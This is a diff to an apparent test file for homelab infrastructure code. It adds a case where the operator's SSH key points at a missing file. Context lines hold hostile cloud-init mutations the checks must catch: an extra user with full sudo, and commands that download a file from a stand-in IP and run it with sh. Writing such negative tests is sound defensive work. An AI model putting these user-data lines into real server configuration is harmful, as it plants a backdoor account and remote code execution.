@@ -171,6 +171,14 @@ const ontoTheNode: readonly Mutation[] = rows(
     },
     "it lets in a key that is not the operator's",
   ],
+  [
+    "a key that nobody can compare with the operator's",
+    (stack) => {
+      const { inputs } = find(stack, "homelab:host:ToolingVm", "tooling");
+      Object.assign(inputs ?? {}, { operatorKey: { ...(inputs?.operatorKey as object), file: "/nowhere/id" } });
+    },
+    "it lets in a key that is not the operator's",
+  ],
   ["a second user", userData("users:\n", "users:\n  - name: somebody\n    sudo: ALL\n"), otherwise],
   ["a command", userData("runcmd:\n", "runcmd:\n  - [curl, -o, /x, 'http://198.51.100.1/x']\n"), otherwise],
   ["an early command", userData("runcmd:\n", "bootcmd:\n  - [sh, /x]\nruncmd:\n"), otherwise],
